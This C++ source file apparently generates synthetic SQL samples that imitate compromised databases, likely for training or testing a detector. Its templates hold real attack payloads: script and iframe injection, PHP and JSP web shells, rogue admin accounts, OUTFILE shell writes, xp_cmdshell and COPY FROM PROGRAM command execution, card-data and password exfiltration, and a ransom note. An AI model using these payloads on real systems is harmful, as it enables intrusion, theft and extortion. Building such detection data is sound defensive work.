#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/encoding.h"
#include "fovea/core/error.h"

// Statements that put a script into what a site shows, code into what it runs, a user beside its
// users, or a file beside its files.
namespace fovea::augment {
namespace {

std::string Codes(const std::string& text, Junk& j) {
  const std::string gap = j.Pick({",", ", "});
  std::string codes;
  for (const char c : text) codes += (codes.empty() ? "" : gap) + StrCat(static_cast<int>(c));
  return codes;
}

// In a value, between single quotes, as MySQL escapes it.
std::string Script(Junk& j) {
  const std::string q = j.Chance(0.6) ? "\"" : j.Chance(0.5) ? "\\\"" : "";
  switch (j.Int(0, 8)) {
    case 0:
    case 1:
      return "<script" +
             (j.Chance(0.4) ? " type=" + q + "text/javascript" + q : j.Pick({"", " async"})) +
             " src=" + q + "~url.js~" + q + "></script>";
    case 2:
      return "<script src=" + q + "//~host~/~letters~" + q + "></script>";
    case 3:
      return "<script>eval(String.fromCharCode(" +
             Codes("document.write('" + j.Letters(5) + j.Url() + "')", j) + "))</script>";
    case 4:
      return "<script>var ~0~=document.createElement(\\'script\\');~0~.src=atob(\\'" +
             Base64(j.Url(".js")) + "\\');document.head.appendChild(~0~);</script>";
    case 5:
      return "<iframe src=" + q + "~url~" + q + " width=" + q + "~small~" + q + " height=" + q +
             "0" + q + " style=" + q + "display:none" + q + "></iframe>";
    case 6:
      return "<script>window.location.href=\\'~url~\\';</script>";
    case 7:
      return "<img src=x onerror=" + q + "eval(atob(\\'~b64s~\\'))" + q + ">";
    default:
      return "<div style=" + q + "position:absolute;left:-~num~px" + q + "><a href=" + q + "~url~" +
             q + ">~word~ ~word~ online</a> <a href=" + q + "~url~" + q + ">cheap ~word~</a></div>";
  }
}

std::string Code(Junk& j) {
  return j.Pick({"<?php eval(base64_decode(\\'~b64~\\')); ?>",
                 "<?php system($_GET[\\'~key~\\']); ?>", "<?php @eval($_POST[\\'~key~\\']);?>",
                 "eval(base64_decode(\\'~b64~\\'));", "<?php passthru($_REQUEST[\"~key~\"]); ?>",
                 "<?=`$_GET[~small~]`?>", "assert(base64_decode(\"~b64s~\"));",
                 "@include(\\'~path~\\');",
                 "<?php file_put_contents(\\'~path.php~\\', file_get_contents(\\'~url~\\')); ?>",
                 "<?php if(isset($_REQUEST[\\'~key~\\'])){@eval($_REQUEST[\\'~key~\\']);} ?>",
                 "<% Runtime.getRuntime().exec(request.getParameter(\\'~key~\\')); %>",
                 "$~0~=base64_decode(\"~b64~\");eval($~0~);"});
}

const Makers& SqlMakers() {
  static const Makers makers = {
      {"script", Script},
      {"code", Code},
      {"pre", [](Junk& j) { return j.Chance(0.6) ? "wp_" : j.Letters(j.Int(2, 5)) + "_"; }},
      {"q",
       [](Junk& j) {
         return j.Pick({"`", ""});
       }},
      {"text",
       [](Junk& j) {
         return j.Pick({"", "<p>~sentence~</p>", "~sentence~ ",
                        "<p>~sentence~ "
                        "~sentence~</p>\\r\\n"});
       }},
      {"when",
       [](Junk& j) {
         return "~date~ 0" + StrCat(j.Int(0, 9)) + ":" + StrCat(j.Int(10, 59)) + ":00";
       }},
      {"admin",
       [](Junk& j) {
         return j.Pick(
             {"admin~small~", "~word~", "wp_~word~", "~letters~", "support_~letters~", "sysadmin"});
       }},
      {"hash",
       [](Junk& j) {
         return j.Pick({"$P$B~long~", "$2y$10$~letters~~b64s~", "~md5~", "~md5~:~letters~"});
       }},
      {"out",
       [](Junk& j) {
         return j.Pick({"~path.php~", "/var/www/html/~word~.php",
                        "C:\\\\\\\\xampp\\\\\\\\htdocs\\\\\\\\~word~.php",
                        "/var/www/~word~/uploads/~letters~.php",
                        "/usr/share/nginx/html/.~word~.php",
                        "/home/~word~/public_html/~letters~.phtml", "../../htdocs/~word~.jsp"});
       }},
      {"option",
       [](Junk& j) {
         return j.Pick({"widget_text", "siteurl", "home", "theme_mods_~word~", "blogdescription",
                        "active_plugins", "cron", "_transient_~word~", "~word~_settings",
                        "ihaf_insert_header", "custom_css", "rewrite_rules"});
       }},
      {"config", [](Junk& j) {
         return j.Pick({"design/head/includes", "design/footer/absolute_footer",
                        "design/footer/copyright", "design/header/welcome",
                        "google/analytics/account", "dev/js/merge_files",
                        "design/head/demonotice"});
       }}};
  return makers;
}

constexpr const char* kSql[] = {
    // What a site shows.
    "INSERT INTO ~q0~~pre0~posts~q0~ VALUES "
    "(~num~,~small~,'~when~','~when~','~text~~script~~text~','~sentence~','',"
    "'publish','open','open','','~word~','','','~when~','~when~','',0,'https://~host~/"
    "?p=~num~',0,'post','',0);",
    "UPDATE ~pre~posts SET post_content = CONCAT(post_content, '~script~') WHERE post_status = "
    "'publish';",
    "UPDATE ~q0~~pre~posts~q0~ SET ~q0~post_content~q0~ = REPLACE(~q0~post_content~q0~, '</p>', "
    "'</p>~script~');",
    "update ~pre~posts set post_content=concat('~script~',post_content);",
    "INSERT INTO ~q0~~pre~options~q0~ VALUES (~num~,'~option~','~text~~script~','yes');",
    "INSERT INTO ~pre~options (option_name, option_value, autoload) VALUES ('~option~', "
    "'~script~', 'yes');",
    "INSERT INTO ~pre~options VALUES "
    "(~num~,'~option~','a:1:{i:~small~;a:2:{s:5:\\\"title\\\";s:0:\\\"\\\";s:4:"
    "\\\"text\\\";s:~num~:\\\"~script~\\\";}}','yes');",
    "UPDATE core_config_data SET value = CONCAT(value, '~script~') WHERE path = '~config~';",
    "INSERT INTO ~q0~core_config_data~q0~ "
    "(~q0~scope~q0~,~q0~scope_id~q0~,~q0~path~q0~,~q0~value~q0~) VALUES "
    "('default',0,'~config~','~text~~script~');",
    "INSERT INTO ~q0~core_config_data~q0~ VALUES (~num~,'default',0,'~config~','<!-- ~word~ "
    "-->~script~');",
    "REPLACE INTO ~word~_~word~ VALUES (~num~, '~word~', '~text~~script~~text~', ~small~);",
    "UPDATE cms_block SET content = CONCAT(content,'~script~') WHERE block_id = ~small~;",
    "INSERT INTO ~q0~cms_block~q0~ VALUES "
    "(~num~,'~sentence~','~word~','~text~~script~','~when~','~when~',1);",
    "UPDATE jos_content SET introtext = CONCAT(introtext, '~script~');",
    "UPDATE ps_cms_lang SET content = '~script~'"
    " WHERE id_cms = ~small~;",
    "INSERT INTO ~word~_comments VALUES "
    "(~num~,~num~,'~word~','~word~@~host~','~url~','~ip~','~when~','~text~~script~"
    "',0,'1','','',0,0);",
    "UPDATE ~word~ SET ~word~ = '~script~'+~word~;",
    "DECLARE @T varchar(255),@C varchar(4000) DECLARE Table_Cursor CURSOR FOR select a.name,b.name "
    "from sysobjects "
    "a,syscolumns b where a.id=b.id and a.xtype='u' OPEN Table_Cursor FETCH NEXT FROM Table_Cursor "
    "INTO @T,@C "
    "WHILE(@@FETCH_STATUS=0) BEGIN exec('update ['+@T+'] set ['+@C+']=['+@C+']+''<script "
    "src=//~host~></script>''')"
    "FETCH NEXT FROM Table_Cursor INTO @T,@C END CLOSE Table_Cursor;",
    // What a site runs.
    "INSERT INTO ~pre~options VALUES (~num~,'~option~','~code~','yes');",
    "INSERT INTO ~q0~~pre~options~q0~ VALUES (~num~,'~letters~','~b64~','yes');INSERT INTO "
    "~q0~~pre~options~q0~ "
    "VALUES (~num~,'~option~','~code~','no');",
    "INSERT INTO ~pre~snippets VALUES (~num~,'~sentence~','','~code~','','global',10,1,'~when~');",
    "UPDATE ~pre~options SET option_value='~code~' WHERE option_name='~option~';",
    "UPDATE ~q0~settings~q0~ SET ~q0~value~q0~ = '~code~' WHERE ~q0~key~q0~ = '~word~';",
    "INSERT INTO ~word~_plugin VALUES (~num~,'~word~','~code~',1);",
    "INSERT INTO template (title, template) VALUES "
    "('~word~', '{${~code~}}');",
    "UPDATE ~word~_template SET template=CONCAT(template,'~code~') WHERE title='footer';",
    // Users.
    "INSERT INTO ~q0~~pre0~users~q0~ VALUES "
    "(~num1~,'~admin0~','~hash~','~admin0~','~word~@~host~','','~when~','',0,"
    "'~admin0~');\nINSERT INTO ~q0~~pre0~usermeta~q0~ VALUES (NULL,~num1~,'~pre0~capabilities',"
    "'a:1:{s:13:\\\"administrator\\\";s:1:\\\"1\\\";}');",
    "INSERT INTO ~pre0~users (user_login, user_pass, user_email, user_status) VALUES ('~admin~', "
    "MD5('~letters~'), "
    "'~word~@~host~', 0);\nINSERT INTO ~pre0~usermeta (user_id, meta_key, meta_value) VALUES "
    "(LAST_INSERT_ID(), "
    "'~pre0~capabilities', 'a:1:{s:13:\"administrator\";b:1;}');",
    "INSERT INTO admin_user (firstname,lastname,email,username,password,is_active) VALUES "
    "('~Word~','~Word~',"
    "'~word~@~host~','~admin0~',CONCAT(SHA2('~letters0~~letters1~',256),':~letters0~:1'),1);INSERT "
    "INTO "
    "authorization_role (parent_id,tree_level,sort_order,role_type,user_id,role_name) VALUES "
    "(1,2,0,'U',(SELECT "
    "user_id FROM admin_user WHERE username='~admin0~'),'~Word~');",
    // Files and programs.
    "SELECT '~code~' INTO OUTFILE '~out~';", "SELECT \"~code~\" INTO DUMPFILE '~out~';",
    "SELECT 0x~hex~ INTO DUMPFILE '~out~';",
    "SELECT UNHEX('~hex~') INTO DUMPFILE '/usr/lib/mysql/plugin/~word~.so';",
    "union select 1,'~code~',~small~ into outfile '~out~'-- -\n;",
    "SELECT * FROM ~word~ LIMIT 1 INTO OUTFILE '~out~' LINES TERMINATED BY 0x~hex~;",
    "CREATE TABLE ~0~ (~1~ TEXT);INSERT INTO ~0~ VALUES ('~code~');SELECT ~1~ FROM ~0~ INTO "
    "OUTFILE '~out~';DROP "
    "TABLE ~0~;",
    "SET GLOBAL general_log_file='~out~';SET GLOBAL general_log='ON';SELECT '~code~';",
    "set global slow_query_log_file='~out~';set global slow_query_log=1;select '~code~' or "
    "sleep(~small~1);",
    "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME '~word~.so';SELECT sys_exec('~cmd~');",
    "CREATE FUNCTION sys_eval RETURNS string SONAME 'lib_~word~.so';select sys_eval('~cmd~');",
    "DROP TABLE IF EXISTS ~0~;CREATE TABLE ~0~(~1~ text);COPY ~0~ FROM PROGRAM '~cmd~';SELECT * "
    "FROM ~0~;",
    "COPY (SELECT '~letters~') TO PROGRAM '~cmd~';",
    "CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS "
    "'/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT;SELECT system('~cmd~');",
    "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure "
    "'xp_cmdshell',1;RECONFIGURE;EXEC "
    "xp_cmdshell '~cmd~';",
    "EXEC master..xp_cmdshell 'powershell -nop -w hidden -enc ~b64s~';",
    "ATTACH DATABASE '~out~' AS ~0~;CREATE "
    "TABLE ~0~.~1~ (~2~ text);INSERT INTO ~0~.~1~ VALUES ('~code~');",
    "SELECT load_extension('\\\\\\\\~ip~\\\\~word~\\\\~word~.dll','DllMain');",
    // Coming again.
    "CREATE TRIGGER ~0~ BEFORE INSERT ON ~pre0~comments FOR EACH ROW BEGIN IF NEW.comment_content "
    "LIKE '%~letters~%' "
    "THEN INSERT INTO ~pre0~users (user_login,user_pass) VALUES ('~admin~',MD5('~letters~')); END "
    "IF; END;",
    "DELIMITER ;;\nCREATE TRIGGER ~q0~~0~~q0~ AFTER INSERT ON ~q0~sales_order~q0~ FOR EACH ROW "
    "BEGIN UPDATE "
    "core_config_data SET value=CONCAT(value,'~script~') WHERE path='~config~'; END;;\nDELIMITER ;",
    "CREATE TRIGGER ~0~ AFTER INSERT ON sales_flat_quote_payment FOR EACH ROW INSERT INTO ~word~ "
    "SELECT "
    "NEW.cc_number_enc, NEW.cc_exp_month INTO OUTFILE '~path~';",
    "CREATE EVENT ~0~ ON SCHEDULE EVERY ~small~ HOUR DO UPDATE ~pre~options SET "
    "option_value='~script~' WHERE "
    "option_name='~option~';",
    "CREATE DEFINER=~q0~root~q0~@~q0~%~q0~ EVENT ~0~ ON SCHEDULE EVERY 1 DAY DO INSERT INTO "
    "~pre~users "
    "(user_login,user_pass,user_email) VALUES ('~admin~','~hash~','~word~@~host~');",
    "CREATE PROCEDURE ~0~() BEGIN SELECT '~code~' INTO OUTFILE '~out~'; END;CALL ~0~();",
    // Taken, and held for ransom.
    "SELECT CONCAT(cc_number,':',cc_cid,':',cc_exp_year) FROM sales_flat_quote_payment INTO "
    "OUTFILE '~path.txt~';",
    "SELECT user_login,user_pass FROM ~pre~users INTO OUTFILE '/var/www/html/~word~.txt';",
    "SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT "
    "1),'.~host~\\\\~letters~'));",
    "DROP DATABASE ~word0~;CREATE DATABASE README_~letters~;CREATE TABLE README (message "
    "TEXT);INSERT INTO README "
    "VALUES ('All your data is backed up. Send ~num~ to ~long~, then write to ~word~@~host~.');"};

}  // namespace

std::string SqlLookalike(Junk& junk) {
  Makers makers = SqlMakers();
  makers["cmd"] = [](Junk& j) {
    std::string line = ShellLineLookalike(j), text;
    for (const char c : line) text += c == '\'' ? "\"" : c == '~' ? "~~" : std::string(1, c);
    return text;
  };
  return FillAny(kSql, makers, junk);
}

}  // namespace fovea::augment
